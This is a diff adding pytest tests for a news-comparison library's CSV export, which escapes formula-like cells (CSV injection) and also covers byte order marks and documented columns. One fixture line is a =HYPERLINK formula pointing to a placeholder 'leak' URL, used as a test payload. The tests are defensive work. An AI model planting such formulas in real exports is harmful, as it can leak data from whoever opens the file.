@@ -1,0 +1,154 @@
+"""CSV exports as a spreadsheet or pandas meets them: cells that could run as formulas, and reading rows back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+import newsdiff
+from newsdiff.cli import main
+from newsdiff.result import ROW_FIELDS
+
+# Scraped text can begin like a formula: a spreadsheet would run these on opening the file (OWASP's "CSV injection").
+RISKY = [
+    '=HYPERLINK("http://example.invalid/?leak","Tariq Ossel said so") was all the ferry notice read.',
+    "+12 boats were counted in the harbour of Drennick on Friday.",
+    "-5 degrees fell on the town of Brindle overnight, Mara Quell said.",
+    "@SUM(1+1) was painted on the dock wall in Drennick.",
+]
+
+
+@pytest.fixture(scope="module")
+def risky() -> newsdiff.Comparison:
+    shared = "The ferry to Drennick ran two hours late on Friday, Olan Vek said."
+    first = newsdiff.Article("\n\n".join([*RISKY, shared]), id="=herald", outlet="@Drennick Herald", date="2025-03-07")
+    second = newsdiff.Article(f"{shared} Nothing else happened in Drennick.", id="-wire", outlet="+Coast Wire")
+    return newsdiff.compare([first, second])
+
+
+def _read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_that_would_start_a_formula_start_with_an_apostrophe(risky: newsdiff.Comparison) -> None:
+    rows = _read(risky.to_csv())
+    assert [r["text"] for r in rows[: len(RISKY)]] == ["'" + text for text in RISKY]
+    assert {(r["article"], r["outlet"]) for r in rows} == {
+        ("'=herald", "'@Drennick Herald"),
+        ("'-wire", "'+Coast Wire"),
+    }
+    shared = [r for r in rows if r["label"] == "shared"]
+    assert {r["matched_articles"] for r in shared} == {"'=herald", "'-wire"}
+    assert {r["best_article"] for r in shared} == {"'=herald", "'-wire"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_start_that_a_spreadsheet_reads_as_a_formula_is_escaped(start: str) -> None:
+    sentence = newsdiff.Sentence(0, f"{start}cmd said Mara Quell.", 0, 1, "unique", ())
+    article = newsdiff.ArticleResult("a", f"{start}Outlet", None, None, None, None, "x", (sentence,), ())
+    [row] = _read(newsdiff.Comparison((article,), ()).to_csv())
+    assert (row["outlet"], row["text"]) == (f"'{start}Outlet", f"'{start}cmd said Mara Quell.")
+
+
+def test_csv_keeps_text_as_it_is_when_asked(risky: newsdiff.Comparison) -> None:
+    rows = _read(risky.to_csv(escape_formulas=False))
+    assert [r["text"] for r in rows] == [r["text"] for r in risky.to_rows()]
+    assert {r["outlet"] for r in rows} == {"@Drennick Herald", "+Coast Wire"}
+
+
+def test_numbers_and_plain_text_are_not_escaped(risky: newsdiff.Comparison) -> None:
+    escaped, kept = _read(risky.to_csv()), _read(risky.to_csv(escape_formulas=False))
+    for got, want in zip(escaped, kept, strict=True):
+        for field in ("date", "sentence", "start", "end", "label", "matches", "best_sentence", "best_score"):
+            assert got[field] == want[field]
+    assert escaped[len(RISKY)]["text"] == kept[len(RISKY)]["text"]  # the plain shared sentence
+
+
+def test_compare_command_writes_escaped_csv(risky: newsdiff.Comparison, tmp_path: Path) -> None:
+    source = tmp_path / "drennick.json"
+    source.write_text(risky.to_json(), encoding="utf-8")
+    out = tmp_path / "rows.csv"
+    done = CliRunner().invoke(main, ["report", str(source), "-o", str(out)])
+    assert done.exit_code == 0, done.output
+    with out.open(encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    assert rows[0]["text"] == "'" + RISKY[0]
+
+
+def test_corpus_csv_escapes_outlet_names_that_would_start_a_formula() -> None:
+    shared = "The ferry to Drennick ran two hours late on Friday, Olan Vek said."
+    cluster = {
+        "id": "ferry",
+        "articles": [
+            {"id": "h", "outlet": "=Drennick Herald", "text": f"{shared} Gulls circled."},
+            {"id": "w", "outlet": "-Coast Wire", "text": f"{shared} Snow fell."},
+        ],
+    }
+    summary = newsdiff.summarize(newsdiff.batch([cluster], workers=1))
+    outlets = _read(summary.to_csv())
+    assert {r["name"] for r in outlets} == {"'=Drennick Herald", "'-Coast Wire"}
+    carried = _read(summary.to_csv("carried"))
+    assert {(r["outlet"], r["by"]) for r in carried} == {
+        ("'=Drennick Herald", "'-Coast Wire"),
+        ("'-Coast Wire", "'=Drennick Herald"),
+    }
+    assert {r["name"] for r in _read(summary.to_csv(escape_formulas=False))} == {"=Drennick Herald", "-Coast Wire"}
+
+
+def test_a_carriage_return_inside_a_cell_does_not_end_the_row() -> None:
+    line = "The ferry to Drennick ran two hours late on Friday, Olan Vek said."
+    result = newsdiff.compare([newsdiff.Article(line, outlet="Drennick\rHerald"), line])
+    rows = _read(result.to_csv(escape_formulas=False))
+    assert [(r["outlet"], r["text"], r["end"], r["best_score"]) for r in rows] == [
+        (r["outlet"] or "", r["text"], str(r["end"]), str(r["best_score"])) for r in result.to_rows()
+    ]
+
+
+def test_a_csv_file_starts_with_a_byte_order_mark_for_excel_and_standard_output_does_not(
+    risky: newsdiff.Comparison, tmp_path: Path
+) -> None:
+    # Without the mark, Excel reads a UTF-8 file as the local code page: a news sentence's “quotes” turn to mojibake.
+    source = tmp_path / "drennick.json"
+    source.write_text(risky.to_json(), encoding="utf-8")
+    out = tmp_path / "rows.csv"
+    assert CliRunner().invoke(main, ["report", str(source), "-o", str(out)]).exit_code == 0
+    assert out.read_bytes() == b"\xef\xbb\xbf" + risky.to_csv().encode("utf-8")
+    printed = CliRunner().invoke(main, ["report", str(source), "--format", "csv"])
+    assert printed.exit_code == 0 and printed.stdout_bytes == risky.to_csv().encode("utf-8")
+
+
+def test_the_summary_csv_file_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
+    shared = "The ferry to Drennick ran two hours late on Friday, Olan Vek said."
+    articles = [
+        {"id": "h", "outlet": "Drennick Herald", "text": f"{shared} Gulls circled."},
+        {"id": "w", "outlet": "Coast Wire", "text": f"{shared} Snow fell."},
+    ]
+    results = tmp_path / "results.jsonl"
+    cluster = json.dumps({"id": "ferry", "articles": articles})
+    done = CliRunner().invoke(main, ["batch", "-", "-o", str(results)], input=cluster + "\n")
+    assert done.exit_code == 0, done.output
+    out = tmp_path / "outlets.csv"
+    assert CliRunner().invoke(main, ["summary", str(results), "-o", str(out)]).exit_code == 0
+    assert out.read_bytes() == b"\xef\xbb\xbf" + newsdiff.summarize(results).to_csv().encode("utf-8")
+
+
+def _documented_columns(text: str) -> list[str]:
+    return re.findall(r"`(\w+)`", text)
+
+
+def test_the_cli_page_names_every_csv_column_in_order(risky: newsdiff.Comparison) -> None:
+    page = (Path(__file__).parent.parent / "docs" / "cli.md").read_text(encoding="utf-8")
+    header = next(csv.reader(io.StringIO(risky.to_csv())))
+    sentences = page[page.index("in the columns `article`") : page.index("in that order")]
+    assert _documented_columns(sentences) == header == list(ROW_FIELDS)
+    summary = newsdiff.summarize(newsdiff.batch([{"id": "one", "articles": ["A ferry ran.", "A ferry ran."]}]))
+    outlets = page[page.index("in the columns `name`") : page.index("(with `--table carried`")]
+    assert _documented_columns(outlets) == next(csv.reader(io.StringIO(summary.to_csv())))
+    carried = page[page.index("in the columns `outlet`") : page.index("; `--table` is refused")]
+    assert _documented_columns(carried) == next(csv.reader(io.StringIO(summary.to_csv("carried"))))
